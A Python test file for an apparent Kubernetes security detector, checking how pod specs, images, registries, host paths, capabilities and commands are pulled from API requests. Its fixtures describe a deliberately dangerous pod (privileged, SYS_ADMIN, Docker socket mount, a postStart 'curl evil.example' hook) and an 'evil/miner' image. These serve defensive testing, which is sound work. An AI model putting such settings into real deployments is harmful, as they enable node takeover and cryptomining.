"""What pods would be, wherever in a request they are described."""

from __future__ import annotations

from typing import Any

import pytest

from detector.event import Event
from detector.fields import value_of
from detector.fields.pod import registry_of
from tests.fields.making import event

SPEC: dict[str, Any] = {
    "hostPID": True,
    "serviceAccountName": "admin",
    "initContainers": [{"name": "i", "image": "localhost/init"}],
    "containers": [
        {
            "name": "c",
            "image": "quay.io/x/y:1",
            "command": ["sh", "-c"],
            "args": ["id"],
            "securityContext": {"privileged": True, "capabilities": {"add": ["CAP_SYS_ADMIN", "net_raw"]}},
            "lifecycle": {"postStart": {"exec": {"command": ["curl", "evil.example"]}}},
            "livenessProbe": {"exec": {"command": ["true"]}},
        },
        {"name": "d", "image": "nginx", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}},
    ],
    "volumes": [{"name": "h", "hostPath": {"path": "//var/./run/docker.sock/"}}, {"name": "e", "emptyDir": {}}],
}
TEMPLATE = {"spec": {"template": {"spec": SPEC}}}
POD = event("create", "pods", request={"kind": "Pod", "spec": SPEC})


@pytest.mark.parametrize(
    ("key", "body"),
    [
        ("pods", {"spec": SPEC}),
        ("podtemplates", {"template": {"spec": SPEC}}),
        ("cronjobs", {"spec": {"jobTemplate": {"spec": {"template": {"spec": SPEC}}}}}),
        ("rollouts", TEMPLATE),
        ("pods/ephemeralcontainers", {"spec": SPEC}),
        *[
            (workload, TEMPLATE)
            for workload in (
                "deployments",
                "replicasets",
                "statefulsets",
                "daemonsets",
                "jobs",
                "replicationcontrollers",
            )
        ],
    ],
)
@pytest.mark.parametrize("verb", ["create", "update", "patch"])
def test_a_pod_spec_is_found_wherever_it_lives(key: str, body: Any, verb: str) -> None:
    assert value_of("pod_spec", event(verb, key, request=body)) == [SPEC]


@pytest.mark.parametrize(
    ("verb", "key"),
    [
        ("get", "pods"),
        ("delete", "pods"),
        ("update", "pods/status"),
        ("patch", "deployments/scale"),
        ("create", "secrets"),
    ],
)
def test_nothing_is_looked_for_elsewhere(verb: str, key: str) -> None:
    assert value_of("pod_spec", event(verb, key, request={"spec": SPEC} | TEMPLATE)) is None


def test_without_a_body_everything_is_unknown() -> None:
    blind = event("create", "pods")
    names = ("pod_spec", "containers", "images", "image.registries", "volumes", "host_paths", "container.command")
    assert {value_of(name, blind) for name in (*names, "capabilities.added", "pod.serviceaccount")} == {None}


def test_a_patch_of_something_else_states_no_pod() -> None:
    body = {"metadata": {"annotations": {"a": "b"}}}
    whole = {"kind": "Deployment", **TEMPLATE}
    assert value_of("pod_spec", event("patch", "deployments", request=body, response=whole)) == []
    assert value_of("containers", event("patch", "deployments", request=body, response=whole)) == []


def test_the_answer_is_asked_when_the_request_cannot_be_read() -> None:
    whole = {"kind": "Deployment", **TEMPLATE}
    assert value_of("pod_spec", event("update", "deployments", request="too big", response=whole)) == [SPEC]


def test_containers_say_which_list_they_are_from() -> None:
    found = value_of("containers", POD)
    assert [(item["name"], item["list"]) for item in found] == [
        ("c", "containers"),
        ("d", "containers"),
        ("i", "initContainers"),
    ]
    assert "list" not in SPEC["containers"][0]


def test_an_ephemeral_container() -> None:
    body = {"spec": {"ephemeralContainers": [{"name": "debugger", "image": "nicolaka/netshoot"}]}}
    debugging = event("patch", "pods/ephemeralcontainers", "api-0", request=body)
    assert [item["list"] for item in value_of("containers", debugging)] == ["ephemeralContainers"]
    assert value_of("images", debugging) == ["nicolaka/netshoot"]
    old = {"kind": "EphemeralContainers", "ephemeralContainers": [{"image": "busybox"}]}
    assert value_of("images", event("update", "pods/ephemeralcontainers", request=old)) == ["busybox"]


def json_patch(*steps: tuple[str, str, Any]) -> Event:
    operations = [{"op": op, "path": path, "value": value} for op, path, value in steps]
    return event("patch", "deployments", "api", request=operations)


def test_a_json_patch_that_adds_a_container() -> None:
    patch = json_patch(("add", "/spec/template/spec/containers/-", {"name": "x", "image": "evil/miner"}))
    assert value_of("containers", patch) == [{"name": "x", "image": "evil/miner", "list": "containers"}]


def test_a_json_patch_inside_a_container_keeps_its_parts_together() -> None:
    patch = json_patch(
        ("replace", "/spec/template/spec/containers/0/image", "evil/miner"),
        ("add", "/spec/template/spec/containers/0/securityContext", {"privileged": True}),
        ("replace", "/spec/template/spec/hostNetwork", True),
    )
    assert value_of("containers", patch) == [
        {"image": "evil/miner", "securityContext": {"privileged": True}, "list": "containers"}
    ]
    assert value_of("pod_spec", patch)[0]["hostNetwork"] is True


def test_a_container_that_a_strategic_patch_deletes_is_none() -> None:
    body = {"spec": {"template": {"spec": {"containers": [{"name": "a", "$patch": "delete"}]}}}}
    assert value_of("containers", event("patch", "deployments", request=body)) == []


def test_images_and_their_registries() -> None:
    assert value_of("images", POD) == ["quay.io/x/y:1", "nginx", "localhost/init"]
    assert value_of("image.registries", POD) == ["quay.io", "docker.io", "localhost"]


@pytest.mark.parametrize(
    ("image", "registry"),
    [
        ("nginx", "docker.io"),
        ("bitnami/redis:7", "docker.io"),
        ("nginx:1.25", "docker.io"),
        ("Registry.Acme.io/x@sha256:00", "registry.acme.io"),
        ("host:5000/x", "host:5000"),
        ("", "docker.io"),
    ],
)
def test_the_registry_of_an_image(image: str, registry: str) -> None:
    assert registry_of(image) == registry


def test_mounted_paths_of_the_node_are_written_one_way() -> None:
    assert value_of("host_paths", POD) == ["/var/run/docker.sock"]
    assert len(value_of("volumes", POD)) == 2


@pytest.mark.parametrize("kind", ["hostPath", "local"])
def test_a_persistent_volume_mounts_the_node_too(kind: str) -> None:
    volume = event("create", "persistentvolumes", request={"spec": {kind: {"path": "/"}}})
    assert value_of("host_paths", volume) == ["/"]
    assert value_of("pod_spec", volume) is None


def test_commands_include_hooks_and_probes() -> None:
    assert value_of("container.command", POD) == ["sh -c id", "curl evil.example", "true"]


def test_capabilities_are_written_one_way() -> None:
    assert value_of("capabilities.added", POD) == ["SYS_ADMIN", "NET_RAW"]


@pytest.mark.parametrize("field", ["serviceAccountName", "serviceAccount"])
def test_the_pods_service_account(field: str) -> None:
    assert value_of("pod.serviceaccount", event("create", "pods", request={"spec": {field: "robot"}})) == "robot"
    assert value_of("pod.serviceaccount", event("create", "pods", request={"spec": {"x": 1}})) is None


@pytest.mark.parametrize("junk", [None, 3, "text", [], {}, [1, None], {"a": 1}, [[]], [{"image": {}}]])
def test_wrong_shapes_are_passed_over(junk: Any) -> None:
    spec = {"containers": junk, "volumes": junk, "initContainers": [{"command": junk, "securityContext": junk}]}
    pod = event("create", "pods", request={"spec": spec})
    assert value_of("images", pod) == []
    assert value_of("host_paths", pod) == []
    assert value_of("capabilities.added", pod) == []
    assert value_of("container.command", pod) == []
